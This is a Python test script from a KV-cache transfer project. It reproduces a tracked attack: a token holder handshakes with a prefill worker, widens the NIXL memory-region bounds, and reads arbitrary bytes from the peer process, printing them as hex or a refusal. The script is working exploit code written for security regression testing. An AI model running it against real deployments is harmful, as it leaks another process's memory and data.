"""Run on a test host: as a holder of the deployment's token, handshake with a prefill
worker's side channel, widen the region bounds in the copy of its NIXL metadata, then
READ `nbytes` at `address` of the agent's process and print one JSON line
({"agent": name, "state": ..., "data": hex}). The attack of issue #21 item 4.

    python -m tests.hosts.read_peer ENDPOINT TOKEN_FILE GGUF ADDRESS NBYTES

A process of its own in the host's network namespace (ZMQ and UCX connect from it)."""

from __future__ import annotations

import json
import os
import sys
import time
from pathlib import Path

import numpy as np

from kvbridge.engine.config import ModelConfig
from kvbridge.plan.layout import InstanceLayout
from kvbridge.plan.model_config import read_config
from kvbridge.transfer.agent import NixlTransport, XferState
from kvbridge.transfer.errors import TransferError
from kvbridge.transfer.messages import Hello, LayoutWire, ModelWire, Welcome
from kvbridge.transfer.regions import CacheRegions, MemType
from kvbridge.transfer.side_channel import SideChannelClient
from tests.transfer.test_kv_plane_security import widened


def main(argv: list[str]) -> int:
    endpoint, token = argv[0], Path(argv[1]).read_bytes().strip()
    model = ModelConfig.from_config(read_config(argv[2])).kv_spec("float32")
    address, nbytes = int(argv[3], 0), int(argv[4])
    hello = Hello(
        "mallory", 0, ModelWire.of(model), LayoutWire.of(InstanceLayout()), os.urandom(16)
    )
    client = SideChannelClient(endpoint, token, 1 << 22)
    try:
        welcome = client.call(hello, timeout_s=30)
    finally:
        client.close()
    assert isinstance(welcome, Welcome), welcome
    buf = np.zeros(nbytes, dtype=np.uint8)
    agent = NixlTransport("mallory-0", CacheRegions.from_array(buf[None, :]), net_device="eth0")
    out = {"agent": welcome.agent_name, "state": "", "data": ""}
    try:
        peer = agent.add_peer(widened(welcome))
        local = agent.prep_local(np.array([[buf.ctypes.data, nbytes, 0]], dtype=np.uint64))
        remote = agent.prep_remote(
            peer, np.array([[address, nbytes, 0]], dtype=np.uint64), MemType.DRAM
        )
        idx = np.zeros(1, dtype=np.int32)
        xfer, state = agent.read(local, idx, remote, idx, b"")
        deadline = time.monotonic() + 20
        while state is XferState.PROC and time.monotonic() < deadline:
            time.sleep(0.001)
            state = agent.state(xfer)
        out["state"] = state.value
    except TransferError as exc:
        out["state"] = f"refused: {exc}"
    out["data"] = bytes(buf).hex()
    print(json.dumps(out), flush=True)
    os._exit(0)  # the peer may be gone: NIXL's teardown would wait on it


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
